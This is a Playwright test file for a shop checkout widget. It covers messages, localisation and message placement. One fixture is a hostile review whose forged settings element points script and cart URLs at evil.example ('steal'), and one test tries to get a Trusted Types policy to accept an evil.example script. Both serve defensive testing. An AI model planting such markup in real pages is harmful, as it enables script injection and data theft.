"""What a shopper is told: in which words, and where in the shop's markup."""

from __future__ import annotations

from typing import Any

import pytest
from playwright.sync_api import expect
from playwright.sync_api import Page

from ..support.browser import stop_the_clock
from .conftest import BUSY
from .conftest import BUTTON
from .conftest import expect_state
from .conftest import go_on_to_own_checkout
from .conftest import open_cart
from .conftest import Shop

DANISH = {
    "failed": "Vi kunne ikke åbne betalingen. Prøv igen.",
    "network": "Vi kunne ikke få fat i butikken. Tjek din forbindelse, og prøv igen.",
    "empty-cart": "Din kurv er tom. Læg noget i den, og prøv igen.",
}
FAILED = "We couldn’t open the checkout. Please try again."
FALLBACK = "[data-zonos-fallback]"
#: What DOMPurify's defaults let through.
REVIEW = """<p id="zonos-settings">{"scriptUrl": "https://evil.example/x.js",
"cartInfoUrl": "https://evil.example/steal", "identity": "x", "init": {}}</p>
<p data-zonos-notice="ours">Nice cup</p>
<p data-zonos-script>Nice cup</p>
<p id="Zonos">Nice cup</p> <p id="zonosCheckout">Nice cup</p>
<p id="trusted-types">Nice cup</p> <p data-zonos-fallback>Nice shop</p>"""
#: Buttons, what else is in the page, and where then is said how a click went.
PLACES = {
    "a link": (
        '<a href="/own-checkout"><b><button type="button" class="order">Order'
        "</button></b></a>",
        "",
        "form > a + div",
    ),
    "two buttons": (
        '<p><button class="order">Order</button></p>'
        '<p><button class="order">Order</button></p>',
        "",
        "p:last-child > .order + div",
    ),
    "a place of the shop's": (
        '<button class="order">Order</button>',
        "<div data-zonos-notice><p role=status>Sale!</p></div>",
        "main > div > p + div",
    ),
}


def expect_said(page: Page, state: str, status: str = "", alert: str = "") -> None:
    expect_state(page, state)
    expect(page.get_by_role("status")).to_have_text(status)
    expect(page.get_by_role("alert")).to_have_text(alert)


def test_a_click_that_succeeds_by_keyboard(page: Page, shop: Shop) -> None:
    shop.gate.clear()
    page.clock.install()
    open_cart(page, shop)
    stop_the_clock(page)
    expect_said(page, "ready")
    page.locator(BUTTON).focus()
    page.keyboard.press("Enter")
    expect_said(page, "asking", status="Preparing your checkout…")
    expect(page.locator(BUTTON)).to_have_attribute("aria-busy", "true")
    page.keyboard.press("Enter")
    shop.gate.set()
    expect_said(page, "opening", status="Opening the checkout…")
    expect(page.locator(BUTTON)).to_be_focused()
    expect(page.locator(FALLBACK)).to_be_hidden()
    page.clock.fast_forward(4_000)
    expect_said(page, "ready")
    assert len(shop.calls) == 1


@pytest.mark.parametrize(
    ("code", "language", "settings", "message"),
    [
        ("failed", "da-DK", {}, DANISH["failed"]),
        ("empty-cart", "en", {"language": "da"}, DANISH["empty-cart"]),
        ("network", "DA", {}, DANISH["network"]),
        ("failed", "fr", {}, FAILED),
        ("failed", "da", {"messages": {"failed": "Ring til os."}}, "Ring til os."),
    ],
)
def test_a_click_that_fails_is_told_in_the_shops_words_the_tags_or_pages_language(
    tab: Page, shop: Shop, code: str, language: str, settings: Any, message: str
) -> None:
    shop.lang, shop.settings = language, settings
    shop.answer = lambda: ({"code": code}, 409)
    if code == "network":
        tab.route("**/cart-info", lambda route: route.abort())
    open_cart(tab, shop)
    tab.click(BUTTON)
    expect_said(tab, "failed", alert=message)
    # With an empty cart nobody can go on.
    expect(tab.locator(FALLBACK)).to_be_visible(visible=code != "empty-cart")


def test_a_review_is_taken_for_nothing_of_ours(tab: Page, shop: Shop) -> None:
    shop.notice = REVIEW
    shop.answer = lambda: BUSY
    open_cart(tab, shop)
    assert tab.evaluate("[fake.scripts, fake.inits]") == [1, 1]
    tab.get_by_text("Nice shop").click()
    tab.click(BUTTON)
    alert = tab.locator(f"{BUTTON} + div").get_by_role("alert")
    expect(alert).to_contain_text("couldn’t open")
    assert [path for path, _, _ in shop.calls] == ["/zonos/cart-info"]
    assert tab.locator("p[data-zonos-notice]").inner_text() == "Nice cup"


def test_the_trusted_types_policy_vouches_for_the_loader_alone(
    tab: Page, shop: Shop
) -> None:
    shop.js = (
        "const create = trustedTypes.createPolicy;"
        "trustedTypes.createPolicy = function (name, rules) {"
        " window.rules = rules; return create.call(trustedTypes, name, rules); }"
    )
    open_cart(tab, shop)
    foreign = "String(rules.createScriptURL('https://evil.example/x.js'))"
    assert tab.evaluate(foreign) == "/fake-zonos.js"


@pytest.mark.parametrize(("button", "more", "where"), PLACES.values(), ids=PLACES)
def test_what_is_told_stands_at_the_button_that_was_pressed_or_where_the_shop_wants_it(
    tab: Page, shop: Shop, button: str, more: str, where: str
) -> None:
    shop.button, shop.notice = button, more
    shop.init = {"checkoutSettings": {"placeOrderButtonSelector": ".order"}}
    shop.answer = lambda: BUSY
    shop.gate.clear()
    open_cart(tab, shop)
    tab.locator(".order").last.click()
    place = tab.locator(where)
    expect(place.get_by_role("status")).to_have_text("Preparing your checkout…")
    shop.gate.set()
    expect(place.get_by_role("alert")).to_contain_text("couldn’t open")
    expect(place.get_by_role("status")).to_be_empty()
    assert tab.get_by_text("Sale!").count() == ("Sale!" in more)
    go_on_to_own_checkout(tab)
